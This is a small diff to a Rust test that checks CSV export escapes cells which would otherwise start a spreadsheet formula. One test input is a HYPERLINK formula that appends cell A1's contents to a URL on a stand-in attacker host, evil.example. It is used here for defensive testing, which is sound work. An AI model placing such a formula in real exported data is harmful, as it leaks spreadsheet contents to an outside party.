@@ -345,7 +345,10 @@ mod tests {
     #[test]
     fn csv_cells_never_start_a_formula() {
         for (cell, expected) in [
-            ("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\""),
+            (
+                "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
+                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\"",
+            ),
             ("+1+1", "\"'+1+1\""),
             ("-2+3", "\"'-2+3\""),
             ("@SUM(A1)", "\"'@SUM(A1)\""),
